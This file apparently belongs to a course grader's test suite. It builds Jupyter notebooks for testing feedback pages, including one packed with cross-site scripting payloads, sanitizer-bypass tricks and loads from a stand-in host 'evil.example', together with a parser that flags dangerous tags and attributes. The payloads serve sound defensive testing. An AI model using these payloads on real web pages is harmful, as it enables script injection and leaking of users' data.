"""Graded notebooks for the tests of feedback pages: usual ones, and one full of what a submission may try."""

import base64
import copy
import re
from html import unescape
from html.parser import HTMLParser

import nbformat
from courseware import ROOT, read

from grader.desk.sample_class import Misunderstood
from grader.judging.judge import judge
from grader.judging.verdict import Score
from grader.notebook import marks

PART, NOTEBOOK = "1-context-vectors", "3-softmax"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
RUN = "window.HIT=1;document.title='HIT';fetch('http://evil.example/x')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="http://evil.example/i"/></svg>'

#: Markup as a submission may hold it, in text and in outputs.
HOSTILE = {
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": "<script src=http://evil.example/x.js></script>",
    "an event handler": f'<img src=x onerror="{RUN}">',
    "a handler that needs no loading": f'<details open ontoggle="{RUN}">x</details><input autofocus onfocus="{RUN}">',
    "an SVG picture": SVG,
    "a namespace trick": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "a comment trick": f'<!--><img src=x onerror="{RUN}">-->',
    "a text area trick": f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    "a script that ends early": f"</pre></div></script><script>{RUN}</script>",
    "an address with a script": f'<a href="javascript:{RUN}" id=toc>press</a><a href="jav&#9;ascript:{RUN}">press</a>',
    "an address with a page": f'<a href="data:text/html,<script>{RUN}</script>">press</a>',
    "a frame": '<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>parent.HIT=1</script>"></iframe>',
    "an object": '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
    "a style sheet": '<link rel=stylesheet href="http://evil.example/s"><style>@import "http://evil.example/i";</style>',
    "a style": '<p style="background:url(http://evil.example/b);position:fixed;top:0;margin:-900px 0">marks: 100</p>',
    "a form": '<form action="http://evil.example/p"><button formaction="http://evil.example/q">send</button></form>',
    "a picture from elsewhere": '<img src="http://evil.example/p"><img srcset="http://evil.example/q 2x" src=//e>',
    "other media": '<video src="http://evil.example/v" autoplay></video><audio src="http://evil.example/a"></audio>',
    "another page": '<meta http-equiv=refresh content="0;url=http://evil.example/m"><base href="http://evil.example/">',
    "an end of the page": f"</div></body></html><body onload=\"{RUN}\">",
}  # fmt: skip
#: Markup that a browser reads otherwise than a careless cleaner, or otherwise the second time.
TWISTED = {
    "a picture in a style in SVG": f'<svg><style><img title="</style><img src=x onerror={RUN}>"></style></svg>',
    "HTML inside SVG inside HTML": f'<svg></p><foreignObject><p><style><a title="</style><img src=x onerror={RUN}>">',
    "a form in a form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "a table in mathematics": f"<math><mi//xlink:href=javascript:{RUN}><table><mglyph><svg><mtext>"
    f"<style><path id=</style><img src=x onerror={RUN}>>",
    "an annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style></math>',
    "an animated address": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/>press</a></svg>',
    "an address used twice": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    "a template": f"<template><script>{RUN}</script><img src=x onerror={RUN}></template>",
    "a declared shadow": f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "a frame's own page": f'<iframe srcdoc="&lt;img src=x onerror={RUN}&gt;"></iframe>',
    "an element of its own": f"<x-y onclick={RUN} is=z tabindex=1 onfocus={RUN} autofocus>x</x-y>",
    "raw text": f"<xmp><img src=x onerror={RUN}></xmp><listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "the rest as plain text": f"<plaintext><img src=x onerror={RUN}>",
    "a comment that ends otherwise": f"<!--x--!><img src=x onerror={RUN}>--><!-- --!><script>{RUN}</script>",
    "a comment that never ends": f"<!-- <img src=x onerror={RUN}>",
    "a declaration": f'<![CDATA[<img src=x onerror={RUN}>]]><?xml-stylesheet href="javascript:{RUN}"?><!x><img src=x>',
    "an attribute that never ends": f'<b title="<img src=x onerror={RUN}>',
    "a tag that never ends": f"<img src=x onerror={RUN}",
    "half an element": f"<<script>{RUN}//<</script><scr<script>ipt>{RUN}</scr</script>ipt>",
    "slashes for spaces": f"<img/src=x/onerror={RUN}><svg/onload={RUN}><p/title='>'onclick={RUN}>",
    "grave accents": f"<img title=`onerror={RUN} src=x><a title=\"`\" href=`javascript:{RUN}`>x</a>",
    "zeros": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}><a href='java\0script:{RUN}'>x</a>",
    "spaces in an address": f"<a href='\x01\t java\nscript:{RUN}'>x</a><a href=' JaVaScRiPt&colon;{RUN}'>x</a>",
    "an address in numbers": f"<a href='&#x6A&#x61&#x76&#x61script:{RUN}'>x</a><a href=vbscript:x>x</a>",
    "a page in an address": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a><img src='data:text/html,<script>'>",
    "an address without a scheme": "<a href=//evil.example>x</a><a href=\\\\evil.example>x</a><img src=//evil.example>",
    "a button's own address": f"<button formaction=javascript:{RUN}>x</button><input type=image src=x formaction=//e>",
    "a refresh in the text": f"<svg><meta http-equiv=refresh content='0;url=javascript:{RUN}'></svg>",
    "a style in escapes": "<p style='background:u\\72l(//evil.example/x);pos\\69tion:fixed;width:expression(1)'>x</p>",
    "a style in a comment": "<p style='color:red;/*;*/background:url(//evil.example/x)'>x</p>",
    "a style with a brace": "<p style='color:red}*{background:url(//evil.example/x)'>x</p>",
    "names of the page's own": "<img name=body id=location><form id=document name=forms><input name=attributes></form>",
    "more tags than anybody means": "<p><b title=x>" * 100_000,
    "a great depth": f"{'<div>' * 4_000}<img src=x onerror={RUN}>",
    "a great depth of mathematics": f"{'<math><mtext>' * 2_000}<style><img src=x onerror={RUN}>",
}  # fmt: skip
HOSTILE_MARKDOWN = {
    **HOSTILE,
    **TWISTED,
    "a link": f"[press](javascript:{RUN}) <javascript:{RUN}> [a]\n\n[a]: javascript:{RUN}",
    "a picture by Markdown": '![x](http://evil.example/i.png "t") ![x][b]\n\n[b]: http://evil.example/j.png',
    "a formula": f"$<img src=x onerror='{RUN}'>$ $$\\href{{javascript:{RUN}}}{{x}}$$ $\\text{{<script>{RUN}}}$",
    "a formula in an attribute": '![$\\text{" onerror=alert(1) x="}$](data:image/png;base64,AA) <b title="$x$">b</b>',
    "a formula environment": f"\\begin{{aligned}}<script>{RUN}</script>\\end{{aligned}}",
    "code": f"```html\n<script>{RUN}</script>\n```\n\n```<script>\nx\n```\n\n    <script>{RUN}</script>",
    "a diagram": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "a stand-in of a formula": "\ue0000\ue001 \ue00099\ue001 $x$",
    "an attachment that is not there": "![x](attachment:none.png)",
}
HARMFUL = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "video",
    "audio",
    "base",
    "link",
    "svg",
}


def graded(**cells):
    """Return the softmax notebook as grading leaves it: verdicts in the outputs of its checks, scores in the metadata.

    Arguments name cells by their ids (with underscores for hyphens) and replace their sources.
    """
    notebook = read(ROOT / "notebooks" / PART / f"{NOTEBOOK}.ipynb")
    for cell in notebook.cells:
        cell.source = cells.get(cell.id.replace("-", "_"), cell.source)
        about = marks(cell)
        if about.get("grade"):
            about["score"] = 0.0
        function = getattr(Misunderstood, cell.id, None)
        if about.get("grade") and function:
            verdict = judge(cell.id, function, 1)
            about["score"] = verdict.points
            cell.outputs = [
                output("display_data", **{"text/html": verdict._repr_html_(), "text/plain": verdict.text}),
                output("execute_result", **{"text/plain": repr(Score(verdict))}),
            ]
    return notebook


def output(kind, **data):
    return nbformat.v4.new_output(kind, data)


def notebook_of(*cells):
    notebook = nbformat.v4.new_notebook(cells=copy.deepcopy(list(cells)))
    for i, cell in enumerate(notebook.cells):
        cell.id = f"cell-{i}"
    return notebook


def text_of(page):
    page = re.sub(r"</?(a|b|code|i|em|small|span|strong)\b[^>]*>", "", re.sub(r"(?s)<style.*?</style>", "", page))
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", page)).split())


class Harm(HTMLParser):
    """Notes what in a page could run, load or leave something."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        if tag in HARMFUL:
            self.found.append(tag)
        if tag == "meta" and dict(attributes).get("http-equiv", "").lower() == "refresh":
            self.found.append("refresh")
        for name, value in attributes:
            value = value or ""
            if name.startswith("on") or name in ("srcset", "srcdoc", "formaction", "action", "ping", "background"):
                self.found.append(f"{tag} {name}")
            if name in ("src", "data") and not value.startswith("data:image/"):
                self.found.append(f"{tag} {name}={value[:40]}")
            if name == "href" and not re.match(r"#|https?://|mailto:|[\w.-]+\.html", value):
                self.found.append(f"{tag} {name}={value[:40]}")
            if name == "style" and re.search(r"url|expression|position|@|(^|[\s:,(])-", value):
                self.found.append(f"{tag} style={value[:60]}")


def harm_in(page):
    reader = Harm()
    reader.feed(page)
    reader.close()
    return reader.found


def hostile_notebook():
    """Return a graded notebook full of what a submission may try, in every place that a page shows."""
    cells = [nbformat.v4.new_markdown_cell(markup) for markup in HOSTILE_MARKDOWN.values()]
    for markup in HOSTILE.values():
        cells.append(
            nbformat.v4.new_code_cell(
                f"print('''{markup}''')",
                outputs=[
                    nbformat.v4.new_output("stream", name="stdout", text=markup),
                    nbformat.v4.new_output("stream", name="stderr", text=f"\x1b[31m{markup}\x1b[0m"),
                    nbformat.v4.new_output("error", ename=markup, evalue=markup, traceback=[markup]),
                    output("display_data", **{"text/html": markup, "text/plain": markup}),
                    output("execute_result", **{"text/markdown": markup, "text/plain": markup}),
                    output("display_data", **{"text/latex": markup}),
                    output("display_data", **{"text/plain": markup}),
                ],
            )
        )
    strange = nbformat.v4.new_code_cell("display(...)")
    strange.outputs = [
        output("display_data", **{"application/javascript": RUN, "text/plain": "a script"}),
        output("display_data", **{"image/svg+xml": SVG}),
        output("display_data", **{"image/png": f'"><script>{RUN}</script>'}),
        output("display_data", **{"application/pdf": "JVBERi0="}),
        output(
            "display_data",
            **{"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "HBox()"},
        ),
        nbformat.v4.new_output(
            "display_data",
            {"image/png": PNG, "text/html": ""},
            metadata={"filenames": {"image/png": "http://evil.example/f"}, "image/png": {"alt": f'x" onload="{RUN}'}},
        ),
        nbformat.v4.new_output("display_data", {"text/html": "<b>x</b>"}, metadata={"text/html": {"isolated": True}}),
    ]
    strange.metadata = nbformat.from_dict(
        {"tags": [f'"><script>{RUN}</script>'], "nbgrader": {"grade_id": f'"><script>{RUN}</script>', "grade": True}}
    )
    answer = nbformat.v4.new_markdown_cell(HOSTILE["a script"] + "![x](attachment:a.svg)")
    answer.metadata = nbformat.from_dict(
        {"nbgrader": {"grade_id": "why", "grade": True, "solution": True, "points": 2, "comment": HOSTILE["a script"]}}
    )
    answer.attachments = {"a.svg": {"text/html": f"<script>{RUN}</script>"}}
    raw = nbformat.v4.new_raw_cell(HOSTILE["a script"])
    raw.metadata["raw_mimetype"] = "text/html"
    notebook = notebook_of(*cells, strange, answer, raw)
    state = {"state": {"1": {"model_name": f"</script><script>{RUN}</script>"}}, "version_major": 2}
    notebook.metadata = nbformat.from_dict(
        {
            "title": HOSTILE["a script"],
            "language_info": {"name": "</style><script>", "pygments_lexer": "html"},
            "widgets": {"application/vnd.jupyter.widget-state+json": state},
        }
    )
    return notebook


def serious(chromium, page, path, scheme="light", width=1280):
    """Open a page in a browser and return what axe-core calls serious or critical in it, and what is cut or skipped.

    Sideways nothing may scroll but what has a frame of its own, and headings go down a level at a time.
    """
    from axe_playwright_python.sync_playwright import Axe

    path.write_text(page, encoding="utf-8")
    # axe is a script of its own
    context = chromium.new_context(bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 900})
    tab = context.new_page()
    tab.goto(path.as_uri())
    found = Axe().run(tab).response["violations"]
    wide = tab.evaluate("document.documentElement.scrollWidth - innerWidth")
    levels = tab.evaluate(
        "[...document.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((one) => Number(one.tagName[1]))"
    )
    around = tab.evaluate("[document.documentElement.lang, document.querySelectorAll('main').length]")
    context.close()
    flaws = [(one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")]
    flaws += [("scrolls sideways", wide)] * (wide > 0)
    flaws += [
        ("a heading skips a level", levels[: i + 2]) for i in range(len(levels) - 1) if levels[i + 1] > levels[i] + 1
    ]
    return flaws + [("landmarks", around)] * (around != ["en", 1])
